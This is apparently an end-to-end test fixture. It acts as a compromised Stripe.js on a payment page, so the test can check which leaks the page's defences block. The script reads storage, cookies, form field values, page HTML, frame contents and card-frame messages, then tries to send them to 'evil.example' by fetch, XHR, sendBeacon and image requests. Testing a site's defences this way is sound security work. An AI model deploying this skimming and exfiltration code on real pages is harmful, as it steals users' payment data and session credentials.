// Runs in the page: eslint.config.js gives e2e/ Node's globals, so the browser's are named.
/* global window, document, localStorage, sessionStorage, navigator, fetch, XMLHttpRequest, Image */
// Appended to the stand-in Stripe.js by e2e/prod/third-party-reach.spec.ts: what a compromised
// Stripe.js could try on the payment page. It reads what a script of the page can read (storage,
// cookies, the page's DOM and fields, the frames, the messages the card frame posts) and tries to
// send it to its own origin and to another, by every ordinary channel. Each read and each
// attempt's outcome is kept in window.__hostile for the test to judge; the script judges nothing.
//
// It does not hook XMLHttpRequest or fetch, nor dig into the app's memory: a script in the page
// can do both (docs/session-security.md), and nothing here claims to stop it.
(function () {
  'use strict';

  const TARGETS = ['https://js.stripe.com/collect', 'https://evil.example/collect'];
  const hostile = { reads: [], messages: [], attempts: [] };
  window.__hostile = hostile;

  function entries(storage) {
    const out = {};
    for (let i = 0; i < storage.length; i += 1) {
      const key = storage.key(i);
      out[key] = storage.getItem(key);
    }
    return out;
  }

  // The card frame talks to Stripe.js by postMessage: anything it says, this script hears too.
  window.addEventListener('message', function (event) {
    let data;
    try {
      data = JSON.stringify(event.data);
    } catch {
      data = String(event.data);
    }
    hostile.messages.push({ origin: event.origin, data });
  });

  function frames() {
    return Array.from(document.querySelectorAll('iframe')).map(function (frame) {
      let contentDocument;
      try {
        contentDocument =
          frame.contentDocument === null ? 'null' : frame.contentDocument.body.innerText;
      } catch (error) {
        contentDocument = 'threw ' + error.name;
      }
      let windowDocument;
      try {
        windowDocument = frame.contentWindow.document.body.innerText;
      } catch (error) {
        windowDocument = 'threw ' + error.name;
      }
      return { src: frame.src, contentDocument, windowDocument };
    });
  }

  function read(round) {
    const found = {
      round,
      localStorage: entries(localStorage),
      sessionStorage: entries(sessionStorage),
      cookie: document.cookie,
      fields: Array.from(document.querySelectorAll('input, textarea, select')).map(function (el) {
        return { name: el.name, autocomplete: el.autocomplete, value: el.value };
      }),
      text: document.body.innerText,
      html: document.documentElement.outerHTML,
      frames: frames(),
    };
    hostile.reads.push(found);
    return found;
  }

  function attempt(channel, target, outcome) {
    const entry = { channel, target, outcome: 'pending' };
    hostile.attempts.push(entry);
    return outcome.then(
      function (result) {
        entry.outcome = result;
      },
      function (error) {
        entry.outcome = 'threw ' + error.name;
      },
    );
  }

  // Each channel has its own address, so each refusal can be told apart.
  function send(found) {
    const body = JSON.stringify({
      localStorage: found.localStorage,
      sessionStorage: found.sessionStorage,
      cookie: found.cookie,
      fields: found.fields,
    });
    const sends = [];
    TARGETS.forEach(function (base) {
      const to = function (channel) {
        return base + '?via=' + channel;
      };
      sends.push(
        attempt(
          'fetch',
          to('fetch'),
          fetch(to('fetch'), { method: 'POST', mode: 'no-cors', body }).then(
            function () {
              return 'sent';
            },
            function (error) {
              return 'refused ' + error.name;
            },
          ),
        ),
      );
      sends.push(
        attempt(
          'xhr',
          to('xhr'),
          new Promise(function (resolve) {
            const xhr = new XMLHttpRequest();
            xhr.open('POST', to('xhr'));
            xhr.onload = function () {
              resolve('sent ' + xhr.status);
            };
            xhr.onerror = function () {
              resolve('refused');
            };
            xhr.send(body);
          }),
        ),
      );
      sends.push(
        attempt(
          'beacon',
          to('beacon'),
          new Promise(function (resolve) {
            resolve(navigator.sendBeacon(to('beacon'), body) ? 'queued' : 'refused');
          }),
        ),
      );
      sends.push(
        attempt(
          'image',
          to('image'),
          new Promise(function (resolve) {
            const image = new Image();
            image.onload = function () {
              resolve('sent');
            };
            // Refused, or not a picture: the image cannot tell which.
            image.onerror = function () {
              resolve('failed');
            };
            image.src = to('image') + '&d=' + encodeURIComponent(body.slice(0, 1500));
          }),
        ),
      );
    });
    return Promise.all(sends);
  }

  function round(name) {
    hostile.done = send(read(name)).then(function () {
      hostile.finished = name;
    });
  }

  // At once, and again when told: a real script would pick its moment (a timer, the card
  // frame's messages); the test picks it so that the card has been typed by then.
  round('load');
  window.addEventListener('hostile:go', function () {
    round('after-card');
  });
})();
